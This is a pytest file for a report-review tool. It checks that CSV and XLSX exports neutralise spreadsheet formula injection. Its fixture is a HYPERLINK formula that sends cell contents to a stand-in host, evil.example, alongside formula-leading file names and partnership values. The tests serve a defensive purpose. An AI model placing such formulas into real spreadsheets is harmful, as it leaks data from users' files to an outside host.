"""Spreadsheet formula injection: no cell `export` or `review-export` writes can start a formula,
whatever the file names, partnership names and model answers say."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assistant.cli import main
from tests.doubles.scripted_llm_server import reply
from tests.doubles.scripted_llm_server import valid_draft_handler as answer_any
from tests.make_pdf import text_pdf

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAGES = [
    ["Rookfield Safeguarding Children Partnership", "Annual Report 2021-22"],
    ["Our priorities", "Neglect and exploitation were the two priorities this year."],
    ["Gaps", "The partnership has not yet published its independent scrutiny report."],
]
HOSTILE_ANSWER = '=HYPERLINK("http://evil.example/?leak="&A2,"see the evidence")'


def _hostile_c10(request_json):
    """C10 (free text) gets a formula from a 'hostile report'; every other question a valid
    answer."""
    user = request_json["messages"][1]["content"]
    if "Working Together requirements" not in user:
        return answer_any(request_json)
    answer = HOSTILE_ANSWER if "Rookfield" in user else "-2+3 missing: @SUM(A1:A9)"
    return reply(
        {
            "status": "answered",
            "answer": answer,
            "rationale": "+scripted",
            "confidence": 0.6,
            "citations": [],
        }
    )


def _assert_inert(cells: list, where: str) -> None:
    for value in cells:
        if isinstance(value, str):
            assert value[:1] not in DANGEROUS, f"{where}: {value!r}"


def test_export_csv_and_xlsx_cells_never_start_a_formula(
    assistant, tmp_path, monkeypatch, scripted_llm, capsys
):
    folder = tmp_path / "year"
    folder.mkdir()
    a = text_pdf(folder / "=1+2.pdf", PAGES)
    b_pages = [[line.replace("Rookfield", "Ashcombe") for line in p] for p in PAGES]
    b = text_pdf(folder / "\t-ashcombe.pdf", b_pages)
    list(assistant.ingest([a], partnership="@SUM(A1:A9)", period="2021-22"))
    list(assistant.ingest([b], partnership="+44 Ashcombe", period="2021-22"))
    monkeypatch.setenv("REVIEW_ASSISTANT_LLM__BASE_URL", scripted_llm.url)
    monkeypatch.setenv("REVIEW_ASSISTANT_LLM__MODEL", "scripted-model")
    scripted_llm.handler = _hostile_c10
    args = ["score", str(folder), "--period", "2021-22", "--engine", "llm"]
    assert main([*args, "--questions", "A1,C10", "--json"]) == 0
    capsys.readouterr()
    assert main(["export", "--out", str(tmp_path / "out"), "--json"]) == 0
    paths = json.loads(capsys.readouterr().out)

    for key in ("wide_csv", "long_csv"):
        with open(paths[key], newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        assert len(rows) > 2
        for row in rows:
            _assert_inert(row, key)
        flat = [cell for row in rows for cell in row]
        assert "'" + HOSTILE_ANSWER in flat  # kept, as text
        assert "'=1+2.pdf" in flat and "'@SUM(A1:A9)" in flat and "'\t-ashcombe.pdf" in flat
    book = load_workbook(paths["xlsx"])
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
            _assert_inert([cell.value for cell in row], sheet.title)


@pytest.mark.parametrize("lead", DANGEROUS)
def test_the_one_cell_neutraliser_covers_every_formula_lead(lead):
    from assistant.bulk.export import safe_cell

    assert safe_cell(lead + "1+1") == "'" + lead + "1+1"
    assert safe_cell("plain text") == "plain text" and safe_cell(3) == 3 and safe_cell(None) is None


def test_review_export_uses_the_same_neutraliser():
    import assistant.review.final_answers as review
    from assistant.bulk.export import csv_value, write_xlsx

    assert review.csv_value is csv_value and review.write_xlsx is write_xlsx  # via safe_cell
    assert csv_value("=1") == "'=1"
    assert not hasattr(review, "_safe_cell")


def test_export_rows_are_written_through_the_neutraliser(tmp_path):
    """The exporters themselves (not only the rows) make every str cell inert."""
    from assistant.bulk.export import write_csv

    path = write_csv(tmp_path / "x.csv", ["a", "b"], [{"a": "\r=1", "b": 2}])
    rows = list(csv.reader(Path(path).open(newline="", encoding="utf-8-sig")))
    assert rows == [["a", "b"], ["'\r=1", "2"]]
